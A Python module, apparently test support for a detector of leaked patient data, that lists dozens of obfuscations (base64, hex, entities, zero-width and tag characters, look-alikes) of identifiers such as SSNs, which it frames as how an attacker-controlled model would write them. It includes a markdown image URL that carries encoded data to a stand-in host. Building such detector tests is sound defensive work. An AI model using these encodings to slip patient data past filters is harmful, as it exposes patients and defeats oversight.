"""The mechanical encodings of an identifier, as a model that obeys an attacker would write them."""

import base64
import codecs
import html
import quopri
from collections.abc import Callable
from urllib.parse import quote

from phiward.domain.patients import IdentifierKind, KnownPatient

CYRILLIC = str.maketrans("aceopxyABCEHKMOPTX", "асеорхуАВСЕНКМОРТХ")  # noqa: RUF001 - look-alikes are the subject


def b64(text: str) -> str:
    """Standard base64 with padding."""
    return base64.b64encode(text.encode()).decode()


def b64url(text: str) -> str:
    """base64url without padding (RFC 4648 section 5, RFC 7515)."""
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def hexed(text: str, before: str = "", between: str = "") -> str:
    """Two hexadecimal digits for each byte."""
    return between.join(f"{before}{one:02x}" for one in text.encode())


def full_width(text: str) -> str:
    """U+FF01 to U+FF5E."""
    return "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text)


def printable(text: str) -> str:
    """Quoted-printable, each byte (RFC 2045 section 6.7)."""
    return "".join(f"={one:02X}" for one in text.encode())


ENCODINGS: dict[str, Callable[[str], str]] = {
    "base64": b64,
    "base64 without padding": lambda text: b64(text).rstrip("="),
    "base64, one letter glued before": lambda text: b64("x" + text),
    "base64, two letters glued before": lambda text: b64("xy" + text + "z"),
    "base64 within a longer code": lambda text: "AAAA" + b64(text),
    "base64, one letter of code before": lambda text: "Q" + b64(text),
    "base64, two letters of code before": lambda text: "QQ" + b64(text),
    "base64, three letters of code before": lambda text: "QQQ" + b64(text),
    "base64 of UTF-16": lambda text: base64.b64encode(text.encode("utf-16-le")).decode(),
    "base64 wrapped over lines": lambda text: "\n".join(b64(text)[at : at + 8] for at in range(0, len(b64(text)), 8)),
    "base64url in a path": lambda text: f"https://example.com/i/{b64url(text)}/a.png",
    "base64url in a query": lambda text: f"![x](https://example.com/i.png?d={b64url(text)}&k=1)",
    "base32": lambda text: base64.b32encode(text.encode()).decode(),
    "hexadecimal": hexed,
    "hexadecimal in capitals": lambda text: hexed(text).upper(),
    "hexadecimal with spaces": lambda text: hexed(text, between=" "),
    "hexadecimal with colons": lambda text: hexed(text, between=":"),
    "hexadecimal with 0x": lambda text: hexed(text, "0x", ", "),
    "hexadecimal with \\x": lambda text: hexed(text, "\\x"),
    "hexadecimal, a digit glued before": lambda text: "a" + hexed(text),
    "decimal codes": lambda text: " ".join(str(one) for one in text.encode()),
    "binary": lambda text: " ".join(f"{one:08b}" for one in text.encode()),
    "entities in hexadecimal": lambda text: "".join(f"&#x{ord(one):x};" for one in text),
    "entities in decimal": lambda text: "".join(f"&#{ord(one)};" for one in text),
    "half in entities": lambda text: html.escape(text[:2]) + "".join(f"&#{ord(one)};" for one in text[2:]),
    "JSON escapes": lambda text: "".join(f"\\u{ord(one):04x}" for one in text),
    "percent, each byte": lambda text: "".join(f"%{one:02X}" for one in text.encode()),
    "percent, as a browser does": lambda text: quote(text, safe=""),
    "percent twice": lambda text: quote("".join(f"%{one:02X}" for one in text.encode())),
    "quoted-printable": printable,
    "quoted-printable with a soft line end": lambda text: printable(text[:5]) + "=\n" + printable(text[5:]),
    "quoted-printable, as a mailer does": lambda text: quopri.encodestring(text.encode(), quotetabs=True).decode(),
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "reversed": lambda text: text[::-1],
    "words reversed": lambda text: " ".join(reversed(text.split())),
    "each word reversed": lambda text: " ".join(word[::-1] for word in text.split()),
    "zero-width characters": "\u200b".join,
    "tag characters": lambda text: "ok" + "".join(chr(0xE0000 + ord(one)) for one in text),
    "Cyrillic look-alikes": lambda text: text.translate(CYRILLIC),
    "full width": full_width,
    "spaced": " ".join,
    "spaced by dashes": "-".join,
    "spaced by points": ".".join,
    "rot13 in base64": lambda text: b64(codecs.encode(text, "rot13")),
    "reversed in hexadecimal": lambda text: hexed(text[::-1]),
    "base64 in base64": lambda text: b64(b64(text)),
}
"""Name and writer."""


def fields(patient: KnownPatient) -> dict[str, str]:
    """The identifiers that prove a patient, by what they are."""
    of = {kind: [one.value for one in patient.identifiers if one.kind is kind] for kind in IdentifierKind}
    given, family = of[IdentifierKind.GIVEN][0], of[IdentifierKind.FAMILY][0]
    return {
        "full name": of[IdentifierKind.FULL_NAME][0],
        "name": f"{given} {family}",
        "name turned": f"{family} {given}",
        "record number": of[IdentifierKind.MRN][0],
        "member number": of[IdentifierKind.OTHER_ID][0],
        "social security number": of[IdentifierKind.SSN][0],
        "telephone": of[IdentifierKind.PHONE][0],
        "e-mail": of[IdentifierKind.EMAIL][0],
    }
